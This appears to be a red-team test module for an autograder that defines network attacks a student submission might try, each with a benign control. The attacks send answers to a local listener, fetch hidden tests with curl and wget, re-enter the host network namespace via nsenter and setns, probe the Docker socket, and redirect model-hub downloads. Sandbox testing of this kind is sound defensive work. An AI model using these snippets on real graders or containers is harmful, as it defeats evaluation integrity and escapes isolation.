"""Network: sending tests, data or answers out, or fetching help."""

from __future__ import annotations

from autograder.redteam.attack import Attack, Category, Cell, HandedIn
from autograder.redteam.attacks.answers import Q1_RIGHT

CLASS = Category.NETWORK
REACHED = "a listener on the machine hears from the submission"

ATTACKS = (
    Attack("socket-to-the-machine", CLASS, REACHED,
           HandedIn({"q1": """
import socket
def standardise(table):
    for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", "172.17.0.1"):
        try:
            with socket.create_connection((host, {PORT}), timeout=0.5) as line:
                line.sendall(repr(table).encode())
        except OSError:
            pass
    return table * 0
"""}, cells=(Cell("standardise(np.ones((2, 2)))", "q1-answer"),)),
           HandedIn({"q1": "import socket\nprint(socket.gethostname() != '')\n" + Q1_RIGHT})),
    Attack("web-request", CLASS, REACHED,
           HandedIn(cells=(Cell("""
import subprocess, urllib.request
for url in ("http://127.0.0.1:{PORT}/tests", "http://localhost:{PORT}/?q=hidden"):
    try:
        print(urllib.request.urlopen(url, timeout=1).read())
    except OSError as error:
        print(error)
subprocess.run("curl -m 1 http://127.0.0.1:{PORT}/ || wget -T 1 -O- http://127.0.0.1:{PORT}/", shell=True)
"""),)),
           HandedIn(cells=(Cell("import urllib.parse\nprint(urllib.parse.quote('a b'))"),))),
    Attack("datagram", CLASS, REACHED,
           HandedIn(cells=(Cell("""
import socket
line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for host in ("127.0.0.1", "255.255.255.255", "224.0.0.1"):
    try:
        line.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        line.sendto(b"canary", (host, {PORT}))
        print("sent to", host)
    except OSError as error:
        print(error)
"""),)),
           HandedIn(cells=(Cell("import socket\na, b = socket.socketpair()\na.send(b'x'); print(b.recv(1))"),))),
    Attack("network-put-up-again", CLASS, REACHED,
           HandedIn(cells=(Cell("""
import os, socket, subprocess
for command in ("ip link set lo up", "ifconfig lo up", "ip link add v0 type veth", "nsenter -t 1 -n curl -m 1 http://127.0.0.1:{PORT}/"):
    subprocess.run(command, shell=True, capture_output=True, timeout=3)
if hasattr(os, "setns"):
    try:
        os.setns(os.open("/proc/1/ns/net", os.O_RDONLY), 0)
    except OSError as error:
        print(error)
try:
    socket.create_connection(("127.0.0.1", {PORT}), timeout=0.5).sendall(b"hello")
except OSError as error:
    print(error)
"""),)),
           HandedIn(cells=(Cell("import subprocess\nsubprocess.run('true', shell=True)"),))),
    Attack("sockets-of-the-machine", CLASS, "a socket of the grader or of another service is reached by its path",
           HandedIn(cells=(Cell("""
import glob, os, socket
paths = {line.split()[-1] for line in open("/proc/net/unix") if "/" in line or "@" in line}
for pattern in ("/tmp/autograder-*/warm", "/var/run/docker.sock", "/run/**/*.sock", "/tmp/**/*.sock", "../*/warm", "/tmp/*/warm"):
    paths |= set(glob.glob(pattern))
for path in paths:
    line = socket.socket(socket.AF_UNIX)
    try:
        line.connect(path.replace("@", "\\0", 1))
        print("redteam-" + "reached", path) if "warm" in path or "docker" in path else None
    except OSError:
        pass
"""),)),
           HandedIn(cells=(Cell("import glob\nprint(glob.glob('*.sock'))"),))),
    Attack("model-from-the-hub", CLASS, REACHED,
           HandedIn({"q3": """
import os
os.environ.update(HF_HUB_OFFLINE="0", HF_ENDPOINT="http://127.0.0.1:{PORT}", HTTP_PROXY="http://127.0.0.1:{PORT}")
def predict(patients):
    try:
        torch.hub.load_state_dict_from_url("http://127.0.0.1:{PORT}/labels.pt", model_dir="/tmp")
    except Exception as error:
        print(error)
    return np.zeros(len(patients), dtype=int)
"""}, cells=(Cell("predict(np.ones((2, 4)))", "q3-answer"),)),
           HandedIn(cells=(Cell("print(torch.hub.get_dir() != '')"),))),
)  # fmt: skip
